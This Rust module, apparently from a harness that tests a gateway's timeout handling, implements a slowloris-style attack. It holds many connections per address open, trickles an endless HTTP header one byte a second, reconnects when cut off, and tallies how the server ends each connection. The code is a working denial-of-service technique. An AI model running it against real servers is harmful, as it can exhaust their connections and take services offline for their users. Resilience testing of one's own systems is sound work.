//! Connections that send a head one byte a second, for ever, and come back when they are cut off.

use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::Target;

/// How many of them share an address.
const AN_ADDRESS: u32 = 50;
/// What they begin with; what follows belongs to the header that it ends in.
const START: &[u8] = b"GET /echo HTTP/1.1\r\nHost: gateway.test\r\nX-Slow: ";

pub(super) async fn attack(target: Rc<Target>, number: u32) {
    // Over a second, so that they are not in step.
    tokio::time::sleep(Duration::from_millis(u64::from(number % 1000))).await;
    loop {
        if let Some(stream) = target.connect(number / AN_ADDRESS).await {
            target.count(trickle(stream).await);
        }
    }
}

/// Sends bytes until it is cut off: how.
async fn trickle(stream: TcpStream) -> &'static str {
    let (mut from, mut to) = stream.into_split();
    let mut answer = Vec::new();
    let mut head = START.iter().chain(std::iter::repeat(&b'a'));
    loop {
        let read = tokio::time::timeout(Duration::from_secs(1), from.read_buf(&mut answer)).await;
        match read {
            Ok(Ok(1..)) => {}
            Ok(_) if answer.starts_with(b"HTTP/1.1 408") => return "cut off with 408",
            Ok(_) if answer.is_empty() => return "cut off without an answer",
            Ok(_) => return "cut off with another answer",
            Err(_) => {
                let byte = head.next().copied().unwrap_or(b'a');
                let _ = to.write_all(&[byte]).await; // Reading tells if it is closed.
            }
        }
    }
}
